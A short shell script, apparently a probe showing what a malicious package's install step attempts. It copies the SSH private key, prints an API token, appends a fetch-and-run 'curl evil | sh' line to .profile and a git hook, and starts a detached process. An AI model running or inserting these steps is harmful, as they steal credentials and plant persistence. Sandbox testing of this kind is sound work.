# What a package wants to be run.
cat "$HOME/.ssh/id_ed25519" >loot 2>/dev/null && echo "took the key"
[ -z "${API_TOKEN-}" ] || echo "took the token: $API_TOKEN"
(echo 'curl evil | sh' >>"$HOME/.profile") 2>/dev/null && echo "changed the login script"
(echo 'curl evil | sh' >.git/hooks/post-commit) 2>/dev/null && echo "left a hook"
(setsid sh -c 'sleep 60' >/dev/null 2>&1 &)
echo 'echo hello' >app && echo "built ./app"
rm -f loot
